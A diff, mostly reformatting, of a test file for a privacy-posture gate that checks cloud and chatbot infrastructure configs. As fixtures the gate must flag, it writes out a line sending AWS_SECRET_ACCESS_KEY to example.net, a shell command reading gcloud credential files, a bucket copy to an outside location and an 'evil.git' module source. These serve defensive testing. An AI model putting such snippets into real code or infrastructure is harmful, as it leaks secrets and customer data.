@@ -46,7 +46,9 @@ const gate = (dir: string): GateResult => runGate(baseSynthesis, readSynthesis(d
 /** What fails the gate, one line each. */
 const failing = (r: GateResult) => [
   ...r.posture.filter((c) => c.class === 'weakening').map((c) => `posture ${c.agent} ${c.resource}: ${c.message}`),
-  ...r.output.filter((c) => c.class === 'weakening' || (c.class === 'unverified' && !c.acknowledged)).map((c) => `${c.class} ${c.resource} ${c.path}: ${c.why}`),
+  ...r.output
+    .filter((c) => c.class === 'weakening' || (c.class === 'unverified' && !c.acknowledged))
+    .map((c) => `${c.class} ${c.resource} ${c.path}: ${c.why}`),
 ];
 const res = (t: Json) => t.Resources as Record<string, Json>;
 const keyDeny = (t: Json): Json => res(t)[KEY].Properties.KeyPolicy.Statement.find((s: Json) => s.Effect === 'Deny');
@@ -97,7 +99,9 @@ describe('identical and neutral heads pass', () => {
     });
     const r = gate(h);
     expect(failing(r)).toEqual([]);
-    expect(r.output.filter((c) => c.class === 'strengthening').map((c) => c.path)).toEqual(['Properties.RotationPeriodInDays']);
+    expect(r.output.filter((c) => c.class === 'strengthening').map((c) => c.path)).toEqual([
+      'Properties.RotationPeriodInDays',
+    ]);
   });
 });
 
@@ -109,26 +113,69 @@ const weakened: Array<[string, () => string, RegExp]> = [
     () =>
       head(
         CFN,
-        (t) => (res(t).Extra = { Type: 'AWS::IAM::RolePolicy', Properties: { PolicyName: 'x', RoleName: 'Analyst', PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['logs:Unmask', 'kms:Decrypt'], Resource: '*' }] } } }),
+        (t) =>
+          (res(t).Extra = {
+            Type: 'AWS::IAM::RolePolicy',
+            Properties: {
+              PolicyName: 'x',
+              RoleName: 'Analyst',
+              PolicyDocument: {
+                Version: '2012-10-17',
+                Statement: [{ Effect: 'Allow', Action: ['logs:Unmask', 'kms:Decrypt'], Resource: '*' }],
+              },
+            },
+          }),
       ),
     /weakening Extra Properties.PolicyDocument.Statement\[#0\]: an allow added: Allow logs:unmask, kms:decrypt/,
   ],
   [
     'an AWS::Logs::AccountPolicy subscribing every log group to another account',
-    () => head(CFN, (t) => (res(t).Extra = { Type: 'AWS::Logs::AccountPolicy', Properties: { PolicyName: 'all', PolicyType: 'SUBSCRIPTION_FILTER_POLICY', PolicyDocument: '{"DestinationArn":"arn:aws:logs:us-east-1:999999999999:destination:d"}' } })),
+    () =>
+      head(
+        CFN,
+        (t) =>
+          (res(t).Extra = {
+            Type: 'AWS::Logs::AccountPolicy',
+            Properties: {
+              PolicyName: 'all',
+              PolicyType: 'SUBSCRIPTION_FILTER_POLICY',
+              PolicyDocument: '{"DestinationArn":"arn:aws:logs:us-east-1:999999999999:destination:d"}',
+            },
+          }),
+      ),
     /unverified Extra : a resource type the gate does not know, added/,
   ],
   [
     'a project-level roles/logging.privateLogViewer',
-    () => head(TF, (d) => (d.resource.google_project_iam_member.Extra = { project: 'acme-cx-prod', role: 'roles/logging.privateLogViewer', member: 'user:contractor@example.com' })),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (d.resource.google_project_iam_member.Extra = {
+            project: 'acme-cx-prod',
+            role: 'roles/logging.privateLogViewer',
+            member: 'user:contractor@example.com',
+          }),
+      ),
     /weakening google_project_iam_member.Extra \[roles\/logging.privateLogViewer user:contractor@example.com\]: user:contractor@example.com gets roles\/logging.privateLogViewer on the whole project/,
   ],
   [
     'a log view shared with an outside user',
     () =>
       head(TF, (d) => {
-        d.resource.google_logging_log_view = { v: { name: 'all', bucket: 'projects/acme-cx-prod/locations/global/buckets/_Default', filter: '' } };
-        d.resource.google_logging_log_view_iam_member = { m: { parent: 'x', location: 'global', bucket: '_Default', name: 'all', role: 'roles/logging.viewAccessor', member: 'user:outsider@example.net' } };
+        d.resource.google_logging_log_view = {
+          v: { name: 'all', bucket: 'projects/acme-cx-prod/locations/global/buckets/_Default', filter: '' },
+        };
+        d.resource.google_logging_log_view_iam_member = {
+          m: {
+            parent: 'x',
+            location: 'global',
+            bucket: '_Default',
+            name: 'all',
+            role: 'roles/logging.viewAccessor',
+            member: 'user:outsider@example.net',
+          },
+        };
       }),
     /unverified google_logging_log_view_iam_member.m : a resource type the gate does not know, added/,
   ],
@@ -136,24 +183,61 @@ const weakened: Array<[string, () => string, RegExp]> = [
     'a custom role with decrypt permissions, granted',
     () =>
       head(TF, (d) => {
-        d.resource.google_project_iam_custom_role = { r: { role_id: 'decrypter', title: 'x', permissions: ['cloudkms.cryptoKeyVersions.useToDecrypt'], project: 'acme-cx-prod' } };
-        d.resource.google_project_iam_member.m = { project: 'acme-cx-prod', role: 'projects/acme-cx-prod/roles/decrypter', member: 'user:intern@example.com' };
+        d.resource.google_project_iam_custom_role = {
+          r: {
+            role_id: 'decrypter',
+            title: 'x',
+            permissions: ['cloudkms.cryptoKeyVersions.useToDecrypt'],
+            project: 'acme-cx-prod',
+          },
+        };
+        d.resource.google_project_iam_member.m = {
+          project: 'acme-cx-prod',
+          role: 'projects/acme-cx-prod/roles/decrypter',
+          member: 'user:intern@example.com',
+        };
       }),
     /weakening google_project_iam_member.m .*a custom role whose permissions are not in this output/,
   ],
   [
     'object ACLs on the audio bucket',
-    () => head(TF, (d) => (d.resource.google_storage_default_object_acl = { a: { bucket: `\${google_storage_bucket.${BUCKET}.name}`, role_entity: ['READER:allUsers'] } })),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (d.resource.google_storage_default_object_acl = {
+            a: { bucket: `\${google_storage_bucket.${BUCKET}.name}`, role_entity: ['READER:allUsers'] },
+          }),
+      ),
     /unverified google_storage_default_object_acl.a/,
   ],
-  ['a public-read canned ACL on the Lex audio bucket', () => head(CFN, (t) => (res(t).billingAudioBucketE4EFCAA8.Properties.AccessControl = 'PublicRead')), /weakening billingAudioBucketE4EFCAA8 Properties.AccessControl: canned ACL none → PublicRead/],
-  ['a Terraform module block', () => head(TF, (d) => (d.module = { m: { source: 'git::https://example.com/evil.git' } })), /weakening module.m : a module: resources from code this review does not read/],
+  [
+    'a public-read canned ACL on the Lex audio bucket',
+    () => head(CFN, (t) => (res(t).billingAudioBucketE4EFCAA8.Properties.AccessControl = 'PublicRead')),
+    /weakening billingAudioBucketE4EFCAA8 Properties.AccessControl: canned ACL none → PublicRead/,
+  ],
+  [
+    'a Terraform module block',
+    () => head(TF, (d) => (d.module = { m: { source: 'git::https://example.com/evil.git' } })),
+    /weakening module.m : a module: resources from code this review does not read/,
+  ],
   [
     'a local-exec provisioner',
-    () => head(TF, (d) => (d.resource.google_storage_bucket[BUCKET].provisioner = [{ 'local-exec': { command: 'gsutil cp gs://audio/* gs://elsewhere' } }])),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (d.resource.google_storage_bucket[BUCKET].provisioner = [
+            { 'local-exec': { command: 'gsutil cp gs://audio/* gs://elsewhere' } },
+          ]),
+      ),
     /weakening google_storage_bucket.support_AudioBucket_E2BF7743 provisioner: a provisioner runs a command/,
   ],
-  ['a data.external program', () => head(TF, (d) => (d.data.external = { x: { program: ['sh', '-c', 'cat ~/.config/gcloud/*'] } })), /weakening data.external.x : data.external runs a program/],
+  [
+    'a data.external program',
+    () => head(TF, (d) => (d.data.external = { x: { program: ['sh', '-c', 'cat ~/.config/gcloud/*'] } })),
+    /weakening data.external.x : data.external runs a program/,
+  ],
   // Conditions and contents.
   [
     "the KMS deny's ArnNotLike exemption widened to every role",
@@ -167,22 +251,49 @@ const weakened: Array<[string, () => string, RegExp]> = [
   ],
   [
     'a custom identifier regex replaced',
-    () => head(CFN, (t) => (res(t).billingConversationLogs48438003.Properties.DataProtectionPolicy.Configuration.CustomDataIdentifier[0].Regex = 'NEVERMATCHES')),
+    () =>
+      head(
+        CFN,
+        (t) =>
+          (res(
+            t,
+          ).billingConversationLogs48438003.Properties.DataProtectionPolicy.Configuration.CustomDataIdentifier[0].Regex =
+            'NEVERMATCHES'),
+      ),
     /unverified billingConversationLogs48438003 Properties.DataProtectionPolicy: the pattern of custom identifier \w+ changed/,
   ],
   [
     'a custom infoType regex replaced',
-    () => head(TF, (d) => (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.custom_info_types[0].regex.pattern = 'x^')),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (Object.values(
+            d.resource.google_data_loss_prevention_inspect_template as Json,
+          )[0].inspect_config.custom_info_types[0].regex.pattern = 'x^'),
+      ),
     /unverified google_data_loss_prevention_inspect_template.\w+ inspect_config.custom_info_types\[ORDER_NUMBER\].regex.pattern: the pattern changed/,
   ],
   [
     'the Bedrock guardrail PII filters emptied',
-    () => head(CFN, (t) => (ofType(t, 'AWS::Bedrock::Guardrail')[0].Properties.SensitiveInformationPolicyConfig.PiiEntitiesConfig = [])),
+    () =>
+      head(
+        CFN,
+        (t) =>
+          (ofType(t, 'AWS::Bedrock::Guardrail')[0].Properties.SensitiveInformationPolicyConfig.PiiEntitiesConfig = []),
+      ),
     /weakening billingGuardrail90F0D14A Properties.SensitiveInformationPolicyConfig.PiiEntitiesConfig\[Type=EMAIL\]: PII entity removed/,
   ],
   [
     'DLP min_likelihood raised',
-    () => head(TF, (d) => (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.min_likelihood = 'VERY_LIKELY')),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (Object.values(
+            d.resource.google_data_loss_prevention_inspect_template as Json,
+          )[0].inspect_config.min_likelihood = 'VERY_LIKELY'),
+      ),
     /inspect_config.min_likelihood: likelihood threshold \(lower finds more\) weaker/,
   ],
   [
@@ -192,14 +303,24 @@ const weakened: Array<[string, () => string, RegExp]> = [
         TF,
         (d) =>
           (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.rule_set = [
-            { info_types: [{ name: 'EMAIL_ADDRESS' }], rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }] },
+            {
+              info_types: [{ name: 'EMAIL_ADDRESS' }],
+              rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }],
+            },
           ]),
       ),
     /weakening .*inspect_config.rule_set.*an exclusion rule: what it matches is not redacted/,
   ],
   [
     'DLP max_findings_per_request 1',
-    () => head(TF, (d) => (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.limits = { max_findings_per_request: 1 })),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config.limits = {
+            max_findings_per_request: 1,
+          }),
+      ),
     /inspect_config.limits.max_findings_per_request: findings cap .* down/,
   ],
   [
@@ -207,28 +328,53 @@ const weakened: Array<[string, () => string, RegExp]> = [
     () =>
       head(TF, (d) => {
         const t = Object.values(d.resource.google_data_loss_prevention_deidentify_template as Json)[0];
-        t.deidentify_config.info_type_transformations.transformations[1].primitive_transformation = { crypto_deterministic_config: { crypto_key: { unwrapped: { key: 'x' } } } };
+        t.deidentify_config.info_type_transformations.transformations[1].primitive_transformation = {
+          crypto_deterministic_config: { crypto_key: { unwrapped: { key: 'x' } } },
+        };
       }),
     /weakening .*deidentify_config\[CREDIT_CARD_NUMBER\]: CREDIT_CARD_NUMBER: character_mask_config → crypto_deterministic_config/,
   ],
-  ['the security settings redaction_scope removed', () => head(TF, (d) => delete Object.values(d.resource.google_dialogflow_cx_security_settings as Json)[0].redaction_scope), /redaction_scope: redaction scope weaker/],
+  [
+    'the security settings redaction_scope removed',
+    () =>
+      head(
+        TF,
+        (d) => delete Object.values(d.resource.google_dialogflow_cx_security_settings as Json)[0].redaction_scope,
+      ),
+    /redaction_scope: redaction scope weaker/,
+  ],
   [
     "the Macie job's identifier selector set to NONE",
     () =>
       head(CFN, (t) => {
         const job = ofType(t, 'Custom::MacieClassificationJob')[0];
-        for (const k of ['Create', 'Update']) job.Properties[k]['Fn::Join'][1][0] = job.Properties[k]['Fn::Join'][1][0].replace('"RECOMMENDED"', '"NONE"');
+        for (const k of ['Create', 'Update'])
+          job.Properties[k]['Fn::Join'][1][0] = job.Properties[k]['Fn::Join'][1][0].replace('"RECOMMENDED"', '"NONE"');
       }),
     /weakening billingVerifyMacieJob\w+ Properties.Create.parameters.managedDataIdentifierSelector: managed identifiers the job uses weaker/,
   ],
   [
     "the DenyUnmask statement's Resource narrowed",
-    () => head(CFN, (t) => (Object.entries(res(t)).find(([k]) => k.startsWith('billingDenyUnmask'))![1].Properties.PolicyDocument.Statement[0].Resource = 'arn:aws:logs:us-east-1:111122223333:log-group:/nothing')),
+    () =>
+      head(
+        CFN,
+        (t) =>
+          (Object.entries(res(t)).find(([k]) =>
+            k.startsWith('billingDenyUnmask'),
+          )![1].Properties.PolicyDocument.Statement[0].Resource =
+            'arn:aws:logs:us-east-1:111122223333:log-group:/nothing'),
+      ),
     /weakening billingDenyUnmask\w+ Properties.PolicyDocument.Statement\[.*\]: the deny is narrower: resource/,
   ],
   [
     "a sink's destination moved to an outside Pub/Sub topic",
-    () => head(TF, (d) => (Object.values(d.resource.google_logging_project_sink as Json)[0].destination = 'pubsub.googleapis.com/projects/elsewhere/topics/t')),
+    () =>
+      head(
+        TF,
+        (d) =>
+          (Object.values(d.resource.google_logging_project_sink as Json)[0].destination =
+            'pubsub.googleapis.com/projects/elsewhere/topics/t'),
+      ),
     /weakening google_logging_project_sink.\w+ destination: routes log entries to pubsub.googleapis.com\/projects\/elsewhere\/topics\/t, a destination this output does not define/,
   ],
   // Decoys.
@@ -254,12 +400,25 @@ const weakened: Array<[string, () => string, RegExp]> = [
   // Deploy artifacts.
   [
     'the asset manifest publishing another file as the template',
-    () => head(ASSETS, (a) => (Object.values(a.files as Json).find((f: Json) => String(f.source.path).endsWith('.template.json')).source.path = 'evil.json')),
+    () =>
+      head(
+        ASSETS,
+        (a) =>
+          (Object.values(a.files as Json).find((f: Json) =>
+            String(f.source.path).endsWith('.template.json'),
+          ).source.path = 'evil.json'),
+      ),
     /no asset publishes the reviewed support-assistant-aws-us-east-1.template.json/,
   ],
   [
     'the manifest pointing the stack at another published template',
-    () => head('cdk.out/manifest.json', (m) => (m.artifacts['support-assistant-aws-us-east-1'].properties.stackTemplateAssetObjectUrl = 's3://elsewhere/0000.json')),
+    () =>
+      head(
+        'cdk.out/manifest.json',
+        (m) =>
+          (m.artifacts['support-assistant-aws-us-east-1'].properties.stackTemplateAssetObjectUrl =
+            's3://elsewhere/0000.json'),
+      ),
     /stack support-assistant-aws-us-east-1 deploys the template published at s3:\/\/elsewhere\/0000.json/,
   ],
   [
@@ -267,7 +426,10 @@ const weakened: Array<[string, () => string, RegExp]> = [
     () => {
       const to = exampleSynthesis();
       const dir = fs.readdirSync(path.join(to, 'cdk.out')).find((f) => f.startsWith('asset.'))!;
-      fs.appendFileSync(path.join(to, 'cdk.out', dir, 'index.js'), '\nrequire("https").get("https://example.net/" + process.env.AWS_SECRET_ACCESS_KEY);\n');
+      fs.appendFileSync(
+        path.join(to, 'cdk.out', dir, 'index.js'),
+        '\nrequire("https").get("https://example.net/" + process.env.AWS_SECRET_ACCESS_KEY);\n',
+      );
       return to;
     },
     /unverified files.\w+ contentSha256: the asset's contents changed/,
@@ -280,7 +442,8 @@ const weakened: Array<[string, () => string, RegExp]> = [
   ],
   [
     'a Presidio entity removed from a Rasa 3.12 rule list',
-    () => textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')),
+    () =>
+      textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')),
     /weakening out\/rasa\/kiosk\/endpoints.yml anonymization.rule_lists\[id=default\].rules\[entity=US_SSN\]: entity removed/,
   ],
   // Protection removed.
@@ -304,7 +467,8 @@ const weakened: Array<[string, () => string, RegExp]> = [
       const to = exampleSynthesis();
       const file = path.join(to, TF);
       const d = JSON.parse(fs.readFileSync(file, 'utf8'));
-      for (const byName of Object.values(d.resource as Record<string, Json>)) for (const r of Object.values(byName)) delete r['//'].convoguard_agent;
+      for (const byName of Object.values(d.resource as Record<string, Json>))
+        for (const r of Object.values(byName)) delete r['//'].convoguard_agent;
       fs.writeFileSync(file, JSON.stringify(d));
       return to;
     },
@@ -315,7 +479,10 @@ const weakened: Array<[string, () => string, RegExp]> = [
     () => {
       const to = exampleSynthesis();
       fs.mkdirSync(path.join(to, 'cdktf.out', 'stacks', 'evil'));
-      fs.writeFileSync(path.join(to, 'cdktf.out', 'stacks', 'evil', 'cdk.tf.json'), JSON.stringify({ resource: { google_storage_bucket: { b: { name: 'copy', location: 'US' } } } }));
+      fs.writeFileSync(
+        path.join(to, 'cdktf.out', 'stacks', 'evil', 'cdk.tf.json'),
+        JSON.stringify({ resource: { google_storage_bucket: { b: { name: 'copy', location: 'US' } } } }),
+      );
       return to;
     },
     /unverified cdktf.out\/stacks\/evil\/cdk.tf.json : a file convoguard does not write/,
@@ -333,8 +500,16 @@ describe('every weakened head fails the gate, naming the change', () => {
 test('two aliases claiming one agent: the posture says which cannot be told apart, and the report finds it', () => {
   const h = head(CFN, (t) => (res(t).DecoyAlias = JSON.parse(JSON.stringify(res(t).billingBotAliasB192CCBB))));
   const r = gate(h);
-  expect(r.posture.filter((c) => c.class === 'weakening').map((c) => c.message)).toEqual([expect.stringMatching(/^cannot verify added: (billingBotAliasB192CCBB|DecoyAlias): 2 resources claim agent "billing" \(billingBotAliasB192CCBB, DecoyAlias\)/)]);
-  expect(r.headPosture.findings.filter((f) => f.rule === 'CG-UNVERIFIED' && f.agent === 'billing' && /2 resources claim agent/.test(f.message)).length).toBeGreaterThan(0);
+  expect(r.posture.filter((c) => c.class === 'weakening').map((c) => c.message)).toEqual([
+    expect.stringMatching(
+      /^cannot verify added: (billingBotAliasB192CCBB|DecoyAlias): 2 resources claim agent "billing" \(billingBotAliasB192CCBB, DecoyAlias\)/,
+    ),
+  ]);
+  expect(
+    r.headPosture.findings.filter(
+      (f) => f.rule === 'CG-UNVERIFIED' && f.agent === 'billing' && /2 resources claim agent/.test(f.message),
+    ).length,
+  ).toBeGreaterThan(0);
 });
 
 test('policy-level detection semantics are part of the posture: keep, substitution entities, likelihood, exclusions', () => {
@@ -342,27 +517,59 @@ test('policy-level detection semantics are part of the posture: keep, substituti
     gate(h)
       .posture.filter((c) => c.class === 'weakening')
       .map((c) => `${c.agent}: ${c.message}`);
-  expect(posture(textHead('out/rasa/helpdesk/endpoints.yml', (t) => t.replace('keep_right: 4', 'keep_right: 12')))).toEqual(['helpdesk: slot card_number: redact keeping 4 → redact keeping 12']);
-  expect(posture(textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')))).toEqual(['kiosk: detector removed: US_SSN', 'kiosk: default: US_SSN: de-identification (mask) removed']);
-  const dlp = (f: (c: Json) => void) => head(TF, (d) => f(Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config));
-  expect(posture(dlp((c) => (c.min_likelihood = 'LIKELY')))).toEqual(['support: likelihood threshold POSSIBLE → LIKELY']);
-  expect(posture(dlp((c) => (c.rule_set = [{ info_types: [{ name: 'EMAIL_ADDRESS' }], rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }] }])))).toEqual([
-    'support: exclusion rules 0 → 1: what they match is not redacted',
+  expect(
+    posture(textHead('out/rasa/helpdesk/endpoints.yml', (t) => t.replace('keep_right: 4', 'keep_right: 12'))),
+  ).toEqual(['helpdesk: slot card_number: redact keeping 4 → redact keeping 12']);
+  expect(
+    posture(
+      textHead('out/rasa/kiosk/endpoints.yml', (t) => t.replace(/ {8}- entity: US_SSN\n {10}substitution: mask\n/, '')),
+    ),
+  ).toEqual(['kiosk: detector removed: US_SSN', 'kiosk: default: US_SSN: de-identification (mask) removed']);
+  const dlp = (f: (c: Json) => void) =>
+    head(TF, (d) =>
+      f(Object.values(d.resource.google_data_loss_prevention_inspect_template as Json)[0].inspect_config),
+    );
+  expect(posture(dlp((c) => (c.min_likelihood = 'LIKELY')))).toEqual([
+    'support: likelihood threshold POSSIBLE → LIKELY',
   ]);
+  expect(
+    posture(
+      dlp(
+        (c) =>
+          (c.rule_set = [
+            {
+              info_types: [{ name: 'EMAIL_ADDRESS' }],
+              rules: [{ exclusion_rule: { matching_type: 'MATCHING_TYPE_FULL_MATCH', regex: { pattern: '.*' } } }],
+            },
+          ]),
+      ),
+    ),
+  ).toEqual(['support: exclusion rules 0 → 1: what they match is not redacted']);
   expect(posture(dlp((c) => (c.limits = { max_findings_per_item: 1 })))).toEqual(['support: findings cap none → 1']);
 });
 
 describe('acknowledgements', () => {
-  const unknownResource = (t: Json) => (res(t).Extra = { Type: 'AWS::Logs::AccountPolicy', Properties: { PolicyName: 'all', PolicyType: 'DATA_PROTECTION_POLICY', PolicyDocument: '{}' } });
+  const unknownResource = (t: Json) =>
+    (res(t).Extra = {
+      Type: 'AWS::Logs::AccountPolicy',
+      Properties: { PolicyName: 'all', PolicyType: 'DATA_PROTECTION_POLICY', PolicyDocument: '{}' },
+    });
   test('an acknowledgement in code covers an unverified change and is shown with its reason; a stale one is listed', () => {
     const h = head(CFN, (t) => {
       unknownResource(t);
-      res(t).Extra.Metadata = { 'convoguard:acknowledge': [{ path: '', reason: 'Account-wide data protection policy, approved in PRIV-7.' }] };
-      res(t)[KEY].Metadata['convoguard:acknowledge'] = [{ path: 'Properties.EnableKeyRotation', reason: 'Nothing changes here: this acknowledgement is stale.' }];
+      res(t).Extra.Metadata = {
+        'convoguard:acknowledge': [{ path: '', reason: 'Account-wide data protection policy, approved in PRIV-7.' }],
+      };
+      res(t)[KEY].Metadata['convoguard:acknowledge'] = [
+        { path: 'Properties.EnableKeyRotation', reason: 'Nothing changes here: this acknowledgement is stale.' },
+      ];
     });
     const r = gate(h);
     expect(r.passes).toBe(true);
-    expect(r.output.find((c) => c.resource === 'Extra')?.acknowledged).toEqual({ reason: 'Account-wide data protection policy, approved in PRIV-7.', by: 'code' });
+    expect(r.output.find((c) => c.resource === 'Extra')?.acknowledged).toEqual({
+      reason: 'Account-wide data protection policy, approved in PRIV-7.',
+      by: 'code',
+    });
     expect(r.unusedAcknowledgements.map((a) => [a.resource, a.path])).toEqual([[KEY, 'Properties.EnableKeyRotation']]);
   });
   test('an acknowledgement in the policy (review.acknowledge in out/plan.json) covers the change below its path; it never covers a weakening', () => {
@@ -375,32 +582,66 @@ describe('acknowledgements', () => {
     p.review = {
       acknowledge: [
         { resource: 'Extra', path: '', reason: 'Account-wide data protection policy, approved in PRIV-7.' },
-        { resource: 'billingConversationLogs48438003', path: 'Properties', reason: 'Retention raised for a legal hold.' },
+        {
+          resource: 'billingConversationLogs48438003',
+          path: 'Properties',
+          reason: 'Retention raised for a legal hold.',
+        },
       ],
     };
     fs.writeFileSync(plan, JSON.stringify(p));
     const r = gate(to);
     expect(r.output.find((c) => c.resource === 'Extra')?.acknowledged?.by).toBe('policy');
     expect(r.passes).toBe(false);
-    expect(failing(r).join('\n')).toMatch(/weakening billingConversationLogs48438003 Properties.RetentionInDays: retention up/);
+    expect(failing(r).join('\n')).toMatch(
+      /weakening billingConversationLogs48438003 Properties.RetentionInDays: retention up/,
+    );
   });
 });
 
 describe('the command line', () => {
   test('diff --fail-on-weaken exits 1 on a weakened head, 0 on the base, and the JSON is versioned', async () => {
-    const h = head(CFN, (t) => (res(t).Extra = { Type: 'AWS::IAM::RolePolicy', Properties: { PolicyName: 'x', RoleName: 'r', PolicyDocument: { Statement: [{ Effect: 'Allow', Action: 'logs:Unmask', Resource: '*' }] } } }));
+    const h = head(
+      CFN,
+      (t) =>
+        (res(t).Extra = {
+          Type: 'AWS::IAM::RolePolicy',
+          Properties: {
+            PolicyName: 'x',
+            RoleName: 'r',
+            PolicyDocument: { Statement: [{ Effect: 'Allow', Action: 'logs:Unmask', Resource: '*' }] },
+          },
+        }),
+    );
     const weak = await runCli(['diff', '--base', base, '--head', h, '--fail-on-weaken']);
     expect(weak.code).toBe(1);
     expect(weak.out).toMatch(/^## 🔴 2 weaken privacy posture\n/);
     expect(weak.out).toContain('an allow added: Allow logs:unmask');
-    const same = await runCli(['diff', '--base', base, '--head', exampleSynthesis(), '--fail-on-weaken', '--format', 'json']);
+    const same = await runCli([
+      'diff',
+      '--base',
+      base,
+      '--head',
+      exampleSynthesis(),
+      '--fail-on-weaken',
+      '--format',
+      'json',
+    ]);
     expect(same.code).toBe(0);
     expect(JSON.parse(same.out)).toMatchObject({ schemaVersion: 1, passes: true, output: [], posture: [] });
   });
 
   test.each<[string, (d: string) => void, string]>([
-    ['a template that is {}', (d) => fs.writeFileSync(path.join(d, CFN), '{}'), 'Resources is nothing; expected a mapping of logical ids to resources'],
-    ['a resource without Type', (d) => fs.writeFileSync(path.join(d, CFN), JSON.stringify({ Resources: { X: { Properties: {} } } })), 'Resources.X.Type is nothing; expected a resource type'],
+    [
+      'a template that is {}',
+      (d) => fs.writeFileSync(path.join(d, CFN), '{}'),
+      'Resources is nothing; expected a mapping of logical ids to resources',
+    ],
+    [
+      'a resource without Type',
+      (d) => fs.writeFileSync(path.join(d, CFN), JSON.stringify({ Resources: { X: { Properties: {} } } })),
+      'Resources.X.Type is nothing; expected a resource type',
+    ],
   ])('%s exits 2 with the place, never a trace', async (_what, edit, message) => {
     const h = exampleSynthesis();
     edit(h);
@@ -414,9 +655,11 @@ describe('the command line', () => {
 describe('Cloud Logging filters: the gate reads the two forms convoguard writes', () => {
   const requestLog = 'logName="projects/acme-cx-prod/logs/dialogflow-runtime.googleapis.com%2Frequests"';
   const setFilters = (filter: string) => (t: Json) => {
-    for (const type of ['google_logging_project_sink', 'google_logging_project_exclusion']) Object.values(t.resource[type] as Json).forEach((r: Json) => (r.filter = filter));
+    for (const type of ['google_logging_project_sink', 'google_logging_project_exclusion'])
+      Object.values(t.resource[type] as Json).forEach((r: Json) => (r.filter = filter));
   };
-  const filterVerdicts = (r: GateResult) => r.output.filter((c) => c.path.endsWith('filter')).map((c) => `${c.class} ${c.resource.split('.')[0]}: ${c.why}`);
+  const filterVerdicts = (r: GateResult) =>
+    r.output.filter((c) => c.path.endsWith('filter')).map((c) => `${c.class} ${c.resource.split('.')[0]}: ${c.why}`);
 
   test('every Dialogflow log narrowed to the request log is a weakening of the sink and of the exclusion', () => {
     const r = gate(head(TF, setFilters(requestLog)));
